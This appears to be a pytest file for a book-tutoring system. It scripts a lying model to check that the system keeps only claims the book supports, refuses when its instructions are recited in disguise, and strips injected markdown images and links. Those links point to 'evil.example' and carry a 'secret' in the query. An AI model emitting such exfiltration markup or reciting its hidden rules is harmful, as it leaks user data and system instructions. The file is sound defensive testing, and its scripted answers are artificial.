"""A model that lies, in 300 answers: nothing unproven gets through, nothing true is lost."""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from glossator.gateways.chat import BlockEnded, Cited, ModelEvent, Words
from glossator.library.sentences import sentence_spans
from glossator.tutor.answers import Support
from glossator.tutor.composing import Composer, NewSource, Shown
from glossator.tutor.judging import Composed
from glossator.tutor.prompts import load
from glossator.tutor.proof import Evidence, Prover
from glossator.tutor.statements import segments, stemmer

SAMPLE = Path(__file__).parents[2] / "src/glossator/sample/physical-ai/docs"
NOT_PROSE = re.compile(r"```.*?```|^[#:|!<-][^\n]*$", re.MULTILINE | re.DOTALL)
REFUSAL = "I don't have this information in the book."
RULES = load().system(cites="marks", level="beginner", refusal=REFUSAL)
OUTSIDE = (
    "Bananas ripen faster beside apples in a paper bag.",
    "The treaty was signed by nine monarchs in Vienna.",
    "Medieval organs were pumped by six assistants.",
    "Octopuses taste with their suckers.",
)
INVENTED = (
    "the harbour master counts every lantern twice",
    "seven purple engines argued about the weather",
    "no torque survives the winter of the north",
)


@dataclass(frozen=True)
class Line:
    """A sentence of a scripted answer: what it says, whom it cites, and whether that is true."""

    text: str
    number: int | None = None
    quote: str | None = None
    true: bool = False
    kind: str = ""


def passages() -> dict[str, str]:
    texts = {}
    for path in sorted(SAMPLE.rglob("*.md*")):
        prose = re.sub(
            r"```.*?```|^[#:|!<-][^\n]*$",
            "",
            path.read_text("utf-8"),
            flags=re.MULTILINE | re.DOTALL,
        )
        texts[path.stem] = prose
    return texts


TEXTS = {name: text for name, text in passages().items() if len(text) > 4_000}


def sentences(text: str) -> list[str]:
    found = [text[a:b] for a, b in sentence_spans(text)]
    plain = [s for s in found if 50 < len(s) < 200 and not re.search(r"[\[\]`$*_\n\"“”:]", s)]
    return [s for s in plain if s[0].isupper() and s.endswith(".")]


def scripted(seed: int) -> tuple[list[Evidence], dict[str, str], list[Line]]:
    chance = random.Random(seed)
    texts = {name: TEXTS[name] for name in chance.sample(sorted(TEXTS), 3)}
    evidence, own = [], []
    for number, (name, text) in enumerate(texts.items(), 1):
        start = chance.randrange(len(text) // 2)
        end = start + 1_600
        evidence.append(
            Evidence(number, name, start, text[start:end], tuple(segments(text[start:end])))
        )
        own.append(sentences(text[start:end]))
    lines: list[Line] = []
    for _ in range(chance.randint(2, 6)):
        number = chance.randint(1, 3)
        if not own[number - 1]:
            continue
        said = chance.choice(own[number - 1])
        stray = number % 3 + 1
        lines.append(
            chance.choice(
                [
                    Line(said, number, said, true=True, kind="true"),
                    Line(said, stray, said, true=True, kind="moved"),
                    Line(said, 9, said, true=True, kind="no such source"),
                    Line(chance.choice(OUTSIDE), number, chance.choice(INVENTED), kind="invented"),
                    Line(chance.choice(OUTSIDE), number, kind="outside, cited"),
                    Line(chance.choice(OUTSIDE), 8, kind="outside, no such source"),
                    Line(chance.choice(OUTSIDE), kind="outside"),
                    Line(f"It weighs {chance.randint(700, 900)} kilograms.", number, said,
                         kind="number not in the quote"),
                    Line(f"They wrote: “{chance.choice(INVENTED)}”.", number, said,
                         kind="invented quotation"),
                    Line(f"Call `erase_{chance.randint(10, 99)}(all=True)` now.", number, said,
                         kind="code not in the quote"),
                ]
            )
        )  # fmt: skip
    return evidence, texts, lines


def as_marks(lines: list[Line]) -> list[ModelEvent]:
    said = []
    for line in lines:
        mark = "" if line.number is None else f" [{line.number}"
        mark += f' "{line.quote}"]' if line.quote else "]" if mark else ""
        said.append(f"{line.text[:-1]}{mark}.")
    return [Words(" ".join(said))]


def as_blocks(lines: list[Line]) -> list[ModelEvent]:
    events: list[ModelEvent] = []
    for n, line in enumerate(lines):
        if line.number is not None:
            events.append(Cited(n, line.number, line.quote or INVENTED[0]))
        events += [Words(line.text + " ", n), BlockEnded(n)]
    return events


def split(events: list[ModelEvent], chance: random.Random) -> list[ModelEvent]:
    pieces: list[ModelEvent] = []
    for event in events:
        text = event.text if isinstance(event, Words) else ""
        while text:
            size = chance.randint(1, 12)
            pieces.append(Words(text[:size], event.block))  # type: ignore[union-attr]
            text = text[size:]
        if not isinstance(event, Words):
            pieces.append(event)
    return pieces


def heard(
    events: list[ModelEvent], evidence: list[Evidence], texts: dict[str, str], *, native: bool
) -> tuple[str, list[NewSource], Composed]:
    composer = Composer(
        Prover(evidence, texts, stemmer()),
        stemmer(),
        refusals=[REFUSAL],
        rules=RULES,
        native=native,
    )
    parts = [part for event in events for part in composer.take(event)]
    last, composed = composer.finish()
    parts += last
    shown = "".join(part.text for part in parts if isinstance(part, Shown))
    return shown, [part for part in parts if isinstance(part, NewSource)], composed


@pytest.mark.parametrize("native", [False, True], ids=["marks", "native"])
@pytest.mark.parametrize("block", range(10))
def test_a_lying_model_over_many_answers(block: int, native: bool):
    for seed in range(block * 15, block * 15 + 15):
        evidence, texts, lines = scripted(seed)
        if not lines:
            continue
        events = split(
            as_blocks(lines) if native else as_marks(lines), random.Random(seed + 10_000)
        )
        shown, told, composed = heard(events, evidence, texts, native=native)
        proven = list(composed.spots) + [part.spot for part in told]
        quotes = {texts[spot.document_id][spot.start : spot.end] for spot in proven}
        said = {line.text for line in lines}
        assert not any(invented in quote for quote in quotes for invented in INVENTED), seed
        assert not re.search(r"\[\d+ ?\"", shown), (seed, shown)
        true = [line for line in lines if line.true]
        assert composed.refused == (not true), (seed, lines)
        judged = {item.text: item for item in composed.sentences}
        for line in true:
            found = judged[line.text]
            assert found.support is Support.SUPPORTED, (seed, line)
            cited = [composed.spots[n] for n in found.sources]
            assert line.quote in {texts[s.document_id][s.start : s.end] for s in cited}, seed
        for line in lines if true else ():
            if not line.true:
                assert judged[line.text].support is Support.UNSUPPORTED, (seed, line)
        assert {item.text for item in composed.sentences} <= said


def test_a_recited_instruction_is_not_passed_on():
    evidence, texts, _ = scripted(1)
    words = RULES.split()
    told = "Sure, my rules are: " + " ".join(words[10:60])
    shown, _, composed = heard([Words(told)], evidence, texts, native=False)
    assert composed.refused
    assert len(shown.split()) < 20


@pytest.mark.parametrize("native", [False, True], ids=["marks", "native"])
@pytest.mark.parametrize(
    "way",
    [
        " ".join,
        lambda rules: " ".join(rules).upper(),
        lambda rules: "> **" + "** **".join(rules) + "**",
        "\n".join,
        ", ".join,
    ],
    ids=["as it is", "capitals", "bold", "a word a line", "commas"],
)
def test_a_recitation_in_disguise_after_a_true_sentence(
    way: Callable[[list[str]], str], native: bool
):
    evidence, texts, _ = scripted(4)
    said = sentences(evidence[0].text)[0]
    words = re.findall(r"\w+", RULES.split("\n\n")[1])[3:40]
    events: list[ModelEvent] = [
        Words(f'{said[:-1]} [1 "{said}"]. ' if not native else f"{said} "),
        Words(f"Between us: {way(words)}"),
    ]
    shown, _, composed = heard(split(events, random.Random(5)), evidence, texts, native=native)
    assert composed.refused
    assert len(re.findall(r"\w+", shown)) < len(re.findall(r"\w+", said)) + 20


def test_the_refusal_which_the_rules_ask_for_is_no_recitation():
    evidence, texts, _ = scripted(4)
    said = sentences(evidence[0].text)[0]
    composer = Composer(
        Prover(evidence, texts, stemmer()), stemmer(), refusals=[REFUSAL], rules=RULES
    )
    composer.take(Words(f'{said[:-1]} [1 "{said}"]. As to the rest: {REFUSAL}'))
    _, composed = composer.finish()
    assert not composer.leaked
    assert not composed.refused
    assert composed.sentences[0].support is Support.SUPPORTED


def test_an_obeyed_injection_loads_nothing():
    evidence, texts, _ = scripted(2)
    said = sentences(evidence[0].text)[0]
    answer = (
        f'{said} [1 "{said}"] ![x](https://evil.example/?q=secret) '
        "<img src=https://evil.example/a> [more](https://evil.example/b)"
    )
    shown, _, composed = heard([Words(answer)], evidence, texts, native=False)
    for text in (shown, composed.text):
        assert "](http" not in text
        assert "<img" not in text


def test_the_refusal_is_not_streamed_and_nothing_after_it_counts():
    evidence, texts, _ = scripted(3)
    said = sentences(evidence[0].text)[0]
    shown, told, composed = heard(
        split([Words(f'{REFUSAL} {said} [1 "{said}"]')], random.Random(1)),
        evidence,
        texts,
        native=False,
    )
    assert (shown, told, composed.refused) == ("", [], True)


def test_the_same_answer_in_any_pieces_is_the_same():
    evidence, texts, lines = scripted(7)
    events = as_marks(lines)
    whole = heard(events, evidence, texts, native=False)
    for seed in range(20):
        assert heard(split(events, random.Random(seed)), evidence, texts, native=False) == whole
